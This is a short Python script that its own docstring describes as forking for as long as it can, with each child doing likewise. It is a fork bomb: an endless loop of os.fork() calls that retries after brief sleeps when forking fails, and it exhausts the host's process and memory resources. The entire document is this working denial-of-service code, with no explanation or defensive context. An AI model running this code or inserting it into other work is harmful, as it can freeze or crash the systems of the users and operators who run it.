"""Forks for as long as it can, and each child of it does."""
import os, time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
